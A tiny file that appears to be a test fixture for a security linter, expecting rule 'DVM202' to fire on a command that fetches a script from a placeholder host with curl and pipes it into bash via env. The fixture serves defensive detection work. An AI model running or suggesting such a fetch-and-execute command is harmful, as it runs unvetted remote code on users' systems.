# expect: DVM202
curl -s https://x.example.org/a | env bash /dev/stdin
